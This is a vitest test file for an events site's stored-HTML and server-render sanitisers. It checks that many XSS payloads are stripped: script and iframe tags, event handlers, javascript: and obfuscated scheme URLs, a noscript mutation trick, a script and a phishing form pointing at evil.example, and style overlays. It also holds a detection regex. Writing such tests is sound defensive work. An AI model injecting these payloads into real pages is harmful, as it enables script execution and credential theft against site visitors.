import { beforeAll, describe, expect, it } from 'vitest';
import { RENDERED_HTML_RULES, STORED_HTML_RULES } from '@charity/shared';
import { sanitizeRenderedHtml, storedHtmlSanitizer, type HtmlSanitizer } from './stored-html.ts';

/** Hostile markup and what DOMPurify (the sanitiser of saves and of the browser) leaves of it. */
const HOSTILE: Array<[string, string]> = [
  ['<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
  ['<script src="https://evil.example/x.js"></script>', ''],
  ['<p onclick="steal()" onmouseover="steal()">Hi</p>', '<p>Hi</p>'],
  ['<img src="x" onerror="alert(1)">', '<img src="x">'],
  ['<svg onload="alert(1)"><circle></circle></svg>', '<svg><circle></circle></svg>'],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="  JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['<iframe src="https://evil.example/"></iframe>', ''],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['<object data="https://evil.example/x.swf"></object><embed src="x.swf">', ''],
  ['<style>body{display:none}</style><p>x</p>', '<p>x</p>'],
  // Styles reach the whole page: hide the site's header, or lay a fake form over everything.
  ['<p>x</p><style>header{display:none}</style>', '<p>x</p>'],
  ['<div style="position:fixed;inset:0;z-index:99">Log in again</div>', '<div>Log in again</div>'],
  ['<p><span style="display:none">hidden</span> shown</p>', '<p><span>hidden</span> shown</p>'],
  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mi>x</mi></math>'],
  [
    '<form action="https://evil.example/"><input name="pan"><textarea></textarea><button>Verify</button></form>',
    'Verify',
  ],
  ['<p>Pick <select><option>one</option></select></p>', '<p>Pick one</p>'],
];

/** The markup the console's editor writes (tiptap's starter kit), plus a table and a picture. */
const DESCRIPTION =
  '<h2>Programme</h2><p>Lunch for <strong>1,500</strong> <em>guests</em>.</p><ul><li>7 am</li></ul>' +
  '<ol><li>One</li></ol><blockquote>Serve</blockquote><p><a href="https://example.org/x">details</a></p>';
const RICH =
  '<h3>Menu</h3><p><u>Rice</u>, <s>sweets</s>, <code>dal</code></p><pre><code>7:00 start</code></pre><hr>' +
  '<table><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td colspan="2">Sunday</td></tr></tbody></table>' +
  '<p><img src="/uploads/events/a-1200.webp" alt="Lunch" width="1200" height="800"> ' +
  '<a href="/madhava-seva/past-events/3">the last one</a> <a href="mailto:seva@example.org">write</a></p>';

/** Markup that can run script or reach out of the page, in any case or spelling. */
const DANGEROUS = /<script|<iframe|<object|<embed|<form|<input|<style|\sstyle=|javascript:|\son\w+=/i;

describe('the stored-HTML sanitiser (DOMPurify, for saves)', () => {
  let sanitize: HtmlSanitizer;
  beforeAll(async () => {
    sanitize = await storedHtmlSanitizer();
  });

  it('keeps the markup an event description is written in', () => {
    expect(sanitize(DESCRIPTION)).toBe(DESCRIPTION);
  });

  it.each(HOSTILE)('makes %s harmless', (hostile, clean) => {
    const result = sanitize(hostile);
    expect(result).toBe(clean);
    expect(result).not.toMatch(/<script|<iframe|<style|\sstyle=|javascript:|\son\w+=/i);
  });
});

describe('the render sanitiser (DOM-free, for server-rendered pages)', () => {
  let save: HtmlSanitizer;
  beforeAll(async () => {
    save = await storedHtmlSanitizer();
  });

  it('leaves what a save stored as it is, so the page shows what the console saved', () => {
    for (const html of [DESCRIPTION, RICH]) {
      const saved = save(html);
      expect(sanitizeRenderedHtml(saved)).toBe(saved);
    }
  });

  it('writes void elements as DOMPurify does, and text with its markup characters escaped', () => {
    expect(sanitizeRenderedHtml('<p>a<br/>b</p><hr>')).toBe('<p>a<br>b</p><hr>');
    expect(sanitizeRenderedHtml('<p title="a />">1 /> 0 &amp; &lt;</p>')).toBe(
      '<p title="a /&gt;">1 /&gt; 0 &amp; &lt;</p>',
    );
  });

  it.each(HOSTILE)('makes %s harmless, as DOMPurify does', (hostile, clean) => {
    const result = sanitizeRenderedHtml(hostile);
    expect(result).not.toMatch(DANGEROUS);
    // A text seen before is answered from memory (the same descriptions render page after page): the same answer.
    expect(sanitizeRenderedHtml(hostile)).toBe(result);
    // SVG and MathML are not kept on the server (shared RENDERED_HTML_RULES): only their text stays.
    if (/<svg|<math/.test(hostile)) expect(result).toBe(clean.replace(/<[^>]+>/g, ''));
    else expect(result).toBe(clean);
  });

  it.each([
    ['<a href="java&#x09;script:alert(1)">y</a>', '<a>y</a>'],
    ['<a href="vbscript:msgbox(1)">y</a>', '<a>y</a>'],
    [
      '<img srcset="javascript:alert(1) 1x, /a.webp 2x" src="/a.webp">',
      '<img srcset="/a.webp 2x" src="/a.webp">',
    ],
    ['<p><textarea><script>alert(1)</script></textarea></p>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
    ['<div><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></div>', '<div></div>'],
    ['<p data-x="1" aria-hidden="true" onclick="x()">t</p>', '<p>t</p>'],
  ])('also makes %s harmless', (hostile, clean) => {
    const result = sanitizeRenderedHtml(hostile);
    expect(result).toBe(clean);
    expect(result).not.toMatch(DANGEROUS);
  });

  it('keeps inline pictures and relative links, and never a form control', () => {
    const picture = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">';
    expect(sanitizeRenderedHtml(picture)).toBe(picture);
    for (const tag of STORED_HTML_RULES.FORBID_TAGS) {
      expect(RENDERED_HTML_RULES.tags as readonly string[]).not.toContain(tag);
    }
  });
});
